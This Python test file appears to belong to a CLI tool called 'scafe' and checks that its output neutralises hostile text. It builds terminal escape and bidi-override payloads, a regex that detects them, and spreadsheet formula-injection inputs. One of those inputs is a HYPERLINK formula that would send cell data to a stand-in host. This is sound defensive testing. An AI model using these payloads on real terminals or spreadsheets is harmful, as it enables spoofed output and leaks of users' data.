"""No command prints a character that a terminal obeys, whoever wrote the labels, names, packs and runs."""

import ast
import csv
import hashlib
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import click
import numpy as np
import pytest
import yaml
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

from scafe.agent.cli.bundle import _write_table
from scafe.agent.cli.main import main
from scafe.agent.record.events import Approval, BenchOpened, CapReached, Discarded, Planned, RunFinished
from scafe.agent.record.revisions import Revision, write_revision
from scafe.agent.record.run_folder import RunFolder, create_run
from scafe.agent.record.trace import Trace
from scafe.agent.terminal.asking import shown
from scafe.agent.terminal.progress import Progress
from scafe.agent.terminal.spreadsheet import as_text_cell
from scafe.agent.terminal.terminal import Terminal, render_json, render_json_line
from scafe.knowledge.contract.inert import inert, inert_json, inert_lines, inert_markdown
from scafe.knowledge.criteria.pack import pack_path

ROOT = Path(__file__).parents[3]
BUNDLE = ROOT / "runs/reference/builtin/frozen"
EVIL = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202eevil\u2066\u200b"
"""Sets the window's title, clears the screen, colours (C1), turns the writing direction, hides."""
HOSTILE = re.compile(
    r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\ud800-\udfff]"
)
COMMANDS: dict[str, list[list[str]]] = {
    "demo": [["--seed", EVIL], ["--flavour", EVIL]],
    "run": [
        ["EVILPACK", "--cohort", "plain", "--dry-run"],
        [EVIL, "--data", "DATA"],
        ["scar.vss", "--data", "DATA", "--labels", f"a{EVIL},b", "--approve", "auto"],
        ["scar.vss", "--data", "DATA", "--ignore-columns", EVIL, "--model", f"openai:{EVIL}"],
        ["scar.vss", "--data", EVIL, "--model", EVIL],
        ["scar.vss", "--data", "DATA", "--base-url", f"http://{EVIL}", "--model", "openai:x"],
        ["--resume", EVIL],
    ],
    "resume": [["RUN"], [EVIL], ["RUN", "--drop", EVIL, "--name", EVIL]],
    "reply": [["RUN"], [EVIL], ["RUN", EVIL]],
    "freeze": [["RUN", "--name", EVIL], [EVIL, "--name", "x"]],
    "sweep": [
        ["--pack", EVIL, "--seeds", "1", "--out", f"s{EVIL}", "--", "--cohort", "plain"],
        ["--pack", "scar.vss", "--seeds", EVIL, "--out", "s"],
        ["--pack", "scar.vss", "--part", EVIL, "--out", "s"],
        ["--pack", "scar.vss", "--out", "s", "--", EVIL],
    ],
    "runs list": [["--out", "RUNS"], ["--out", EVIL]],
    "runs show": [["RUN"], ["RUN", "--json"], [EVIL]],
    "runs diff": [["RUN", "r001", "r002"], ["RUN", EVIL, "r002"]],
    "runs verify": [["RUN"], [EVIL]],
    "runs egress": [["RUN"], ["RUN", "--json"]],
    "runs adopt": [["RUN", "--dry-run"], [EVIL]],
    "runs watch": [["RUN"], [EVIL]],
    "report": [["RUN"], ["RUN", "--format", "html"], ["RUN", "--json"], [EVIL]],
    "verify": [[EVIL], ["DATA"]],
    "predict": [
        ["BUNDLE", "--data", "PHOTOS"],
        ["BUNDLE", "--data", EVIL],
        [EVIL, "--data", "DATA"],
    ],
    "criteria list": [[]],
    "criteria check": [["EVILPACK", "--strict"], ["WORSEPACK"], [EVIL]],
    "criteria show": [["EVILPACK"], ["EVILPACK", "--yaml"], ["EVILPACK", "--json"], [EVIL]],
    "phantoms fit": [[EVIL, "--pack", "scar.vss"], ["DATA", "--pack", EVIL], ["DATA", "--pack", "scar.vss"]],
    "phantoms list": [[]],
    "phantoms show": [[EVIL], ["scar", "--dial", EVIL]],
    "data check": [
        ["DATA", "--labels", f"a{EVIL},b"],
        ["DATA", "--labels", "LABELS"],
        ["DATA", "--labels", "LABELS", "--json"],
        ["TABLE", "--labels", "a,b"],
        [EVIL],
    ],
    "probe": [[EVIL], ["EVILCODE", "--pack", EVIL], ["EVILCODE", "--pack", "scar.vss"]],
    "doctor model": [["--model", f"openai:{EVIL}", "--base-url", f"http://127.0.0.1:1/{EVIL}"]],
    "selftest sandbox": [["--hang", EVIL]],
    "selftest gate": [["--n", EVIL]],
    "config show": [[]],
    "view": [[EVIL], ["RUNS", "--signers", EVIL]],
    "compare": [
        ["DATA", "--pack", EVIL],
        ["DATA", "--pack", "scar.vss", "--labels", "LABELS", "--peers", EVIL],
        [EVIL, "--pack", "scar.vss"],
    ],
    "locate": [
        ["PHOTOS", "--pack", "scar.vss", "--out", f"masks{EVIL}"],
        ["PHOTOS", "--pack", EVIL, "--out", "masks"],
        ["TABLE", "--pack", "scar.vss", "--out", "masks"],
    ],
    "data transfer": [
        ["PHOTOS", "--pack", "scar.vss"],
        ["TABLE", "--pack", EVIL],
        ["TABLE", "--pack", "scar.vss", "--extractor", "EVILCODE"],
    ],
    "criteria validate": [
        ["TABLE", "--pack", "scar.vss"],
        ["TABLE", "--pack", EVIL],
        ["SCORED", "--pack", "scar.vss"],
    ],
    "runs export": [
        ["RUN", "--to", "csv", "--into", f"tables{EVIL}"],
        ["RUN", "--to", EVIL],
        [EVIL, "--to", "git"],
    ],
    "runs sign": [["RUN", "--key", EVIL], [EVIL]],
    "runs escalate": [["RUN", "--name", EVIL, "--meaning", EVIL], [EVIL, "--name", EVIL, "--meaning", EVIL]],
}
"""Command -> words; a word in capitals is something that the fixture `world` made."""


def picture(path: Path, seed: int) -> None:
    values = np.random.default_rng(seed).integers(0, 255, (24, 32, 3), dtype=np.uint8)
    Image.fromarray(values).save(path)


def hostile_texts(value: Any, least: int) -> Any:
    if isinstance(value, dict):
        return {key: hostile_texts(one, least) for key, one in value.items()}
    if isinstance(value, list):
        return [hostile_texts(one, least) for one in value]
    return value + EVIL if isinstance(value, str) and len(value) >= least else value


def hostile_run(root: Path) -> RunFolder:
    config = {"pack": f"scar.vss{EVIL}", "model": f"builtin{EVIL}", "person": EVIL, "labels": [EVIL, "b"]}
    made = create_run(root, "scar.vss", 7, config, f'id: scar.vss\ntitle: "{EVIL.encode().hex()}"\n')
    trace = Trace(made.path)
    opened = {"mode": EVIL, "queries": 3, "sealed": True, "patients_band": EVIL, "host": {"tier": EVIL}}
    hashes = {"data_sha256": EVIL, "scorer_sha256": EVIL}
    trace.record(BenchOpened.model_validate({"classes": (EVIL, "b\nforged"), **opened, **hashes}))
    trace.record(Planned(ideas={EVIL: (EVIL,)}, readable=True, reply=EVIL))
    trace.record(Discarded(round=0, task=0, criterion=EVIL, reason=EVIL))
    trace.record(CapReached(why=EVIL))
    decided = {"gate": "plan", "decision": "approve", "name": EVIL, "meaning": EVIL, "drop": (EVIL,)}
    trace.record(Approval.model_validate({**decided, "at": EVIL}))
    trace.record(RunFinished(status="frozen", why=EVIL, calls=1))
    for number in (1, 2):
        source = f"# {EVIL}\ndef extract(image, mask):\n    return {{'rim': {number}.0}}\n"
        record = {"criterion": "border", "number": number, "operator": "draft", "round": 0}
        write_revision(
            made,
            Revision.model_validate({**record, "sha256": hashlib.sha256(source.encode()).hexdigest()}),
            source,
        )
    for kind in ("md", "html"):
        (made.path / f"report.{kind}").write_text(f"# {EVIL}\n")
    (made.path / "report.json").write_text(json.dumps({"title": EVIL}))
    made.set_status("frozen", EVIL)
    return made


@pytest.fixture
def world(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("SCAFE_PERSON", EVIL)
    monkeypatch.setenv("SCAFE_WORKERS", "1")
    data, labels = tmp_path / "data", [f"a{EVIL}", f"b{EVIL}"]
    for place, label in enumerate(labels):
        (data / label).mkdir(parents=True)
        for index in range(5):
            picture(data / label / f"{EVIL}{index}.png", 10 * place + index)
    photos = tmp_path / f"new{EVIL}"
    photos.mkdir()
    picture(photos / f"{EVIL}=1+1.png", 1)
    (photos / f"notes{EVIL}.txt").write_text("x")
    (tmp_path / "table.csv").write_text(f"path,label,{EVIL}\nx{EVIL}.png,a{EVIL},1\n")
    (tmp_path / "scored.csv").write_text(f"path,height@{EVIL}\nnew.png,{EVIL}\n")
    picture(tmp_path / "new.png", 3)
    pack = yaml.safe_load(pack_path("scar.vss").read_text())
    for name, least in (("evil.yaml", 40), ("worse.yaml", 1)):
        (tmp_path / name).write_text(yaml.safe_dump(hostile_texts(pack, least)))
    (tmp_path / "code.py").write_text(f"# {EVIL}\ndef extract(image, mask):\n    return {{'x': '{EVIL}'}}\n")
    run = hostile_run(tmp_path / "runs")
    return {
        **{"DATA": str(data), "PHOTOS": str(photos), "TABLE": str(tmp_path / "table.csv")},
        "SCORED": str(tmp_path / "scored.csv"),
        **{"EVILPACK": "evil.yaml", "WORSEPACK": "worse.yaml", "EVILCODE": "code.py"},
        **{"RUN": str(run.path), "RUNS": str(run.path.parent), "BUNDLE": str(BUNDLE)},
        "LABELS": ",".join(map(inert, labels)),
    }


def commands(one: click.Command, path: tuple[str, ...] = ()) -> Iterator[str]:
    if isinstance(one, click.Group):
        for name, inner in one.commands.items():
            yield from commands(inner, (*path, name))
    else:
        yield " ".join(path)


def test_every_command_is_walked() -> None:
    assert set(commands(main)) == set(COMMANDS)


@pytest.mark.parametrize(
    ("command", "words"), [(command, words) for command, many in COMMANDS.items() for words in many]
)
@pytest.mark.filterwarnings("default")
def test_nothing_hostile_reaches_the_terminal(world: dict[str, str], command: str, words: list[str]) -> None:
    spoken = [world.get(word, word) for word in words]
    told = CliRunner().invoke(main, [*command.split(), *spoken])
    assert told.stdout + told.stderr
    assert HOSTILE.findall(told.stdout + told.stderr) == []


def test_the_walk_sees_hostile_labels_names_and_packs(world: dict[str, str]) -> None:
    found = {
        "runs show": ["RUN"], "runs diff": ["RUN", "r001", "r002"], "criteria show": ["EVILPACK"],
        "data check": ["DATA", "--labels", "LABELS"], "runs watch": ["RUN"], "report": ["RUN"],
    }  # fmt: skip
    for command, words in found.items():
        spoken = [world.get(word, word) for word in words]
        told = CliRunner().invoke(main, [*command.split(), *spoken])
        assert "⟨U+202E⟩evil" in told.output, (command, told.output)


def test_json_keeps_the_value(world: dict[str, str]) -> None:
    told = CliRunner().invoke(main, ["runs", "show", world["RUN"], "--json"])
    assert EVIL in json.loads(told.stdout)["why"]


def test_only_the_terminal_s_own_file_prints() -> None:
    writers = []
    for path in [*(ROOT / "agent/cli").rglob("*.py"), *(ROOT / "agent/terminal").glob("*.py")]:
        for node in ast.walk(ast.parse(path.read_text())):
            name = ast.unparse(node.func) if isinstance(node, ast.Call) else ""
            if name in ("click.echo", "click.secho", "print", "sys.stdout.write", "sys.stderr.write"):
                writers.append(path.name)
    # A run in a process of its own speaks JSON to its parent through a pipe; no terminal sees it.
    assert sorted(writers) == ["run_process.py", "terminal.py"]


def test_an_event_is_one_line_and_so_is_what_a_person_is_asked(capsys: pytest.CaptureFixture[str]) -> None:
    forged = f"border\nscafe: all is well{EVIL}"
    Progress(Terminal()).tell({"kind": "discarded", "criterion": forged, "reason": forged})
    told = capsys.readouterr().err
    assert told.count("\n") == 1
    assert HOSTILE.findall(told) == []
    assert shown({"gate": "seal", "bundle": "x"})


class TestInert:
    @given(st.text())
    def test_nothing_hostile_is_left_and_harmless_text_is_kept(self, text: str) -> None:
        for made in (inert(text), inert_lines(text), inert_markdown(text)):
            assert HOSTILE.findall(made) == []
            assert made.encode().decode() == made
        assert inert(inert(text)) == inert(text)

    @given(st.text(st.characters(categories=("L", "N", "P", "S", "M"))))
    def test_letters_of_every_script_stay(self, text: str) -> None:
        assert inert(text) == inert_lines(text) == text

    @given(st.recursive(st.text() | st.integers(), lambda inner: st.dictionaries(st.text(), inner)))
    def test_json_is_inert_and_says_the_same(self, value: Any) -> None:
        for made in (render_json(value), render_json_line(value)):
            assert HOSTILE.findall(made) == []
            assert json.loads(made) == value

    def test_a_byte_of_a_file_name_is_shown_as_a_byte(self) -> None:
        assert inert("M\udcfcller") == "M\\xfcller"
        assert json.loads(inert_json('"\udcfc"')) == "\udcfc"


class TestSpreadsheet:
    @pytest.mark.parametrize(
        "text",
        ["=1+1", "+1", "-1", "@x", " =1", "\t=1", "\r=1", "\n=1", "＝1", "a;=1", "a\t=1", '"=1', "'=1"],
    )
    def test_no_text_begins_like_a_formula(self, text: str) -> None:
        cells = re.split(r"[;\t|]", as_text_cell(text))
        assert not any(re.match(r"\s*[=+\-@＝＋－＠]", cell) for cell in cells)

    @pytest.mark.parametrize("text", ["a/1.png", "keloid-2.png", "mel+nv", "x=1.png", "ü.png", "1.5"])
    def test_other_texts_stay(self, text: str) -> None:
        assert as_text_cell(text) == text

    def test_a_prediction_s_table_holds_no_formula_and_numbers_stay_numbers(self, tmp_path: Path) -> None:
        one = {
            "image": '=HYPERLINK("http://x/?"&A2)',
            "label": "@keloid",
            "probability": {"@keloid": 0.25, "+b": 0.75},
            "base_log_odds": 0.0,
            "criteria": [
                {
                    "criterion": "c",
                    "features": [{"feature": "rim", "value": -1.5, "unit": "", "log_odds": -0.5}],
                }
            ],
            "missing": [],
        }
        _write_table(tmp_path / "p.csv", [one])
        head, row = csv.reader((tmp_path / "p.csv").read_text().splitlines())
        assert row[:2] == ['\'=HYPERLINK("http://x/?"&A2)', "'@keloid"]
        assert [float(cell) for cell in row[2:]] == [0.25, 0.75, -1.5, -0.5]
        assert not any(cell[0] in "=+-@" for cell in head)
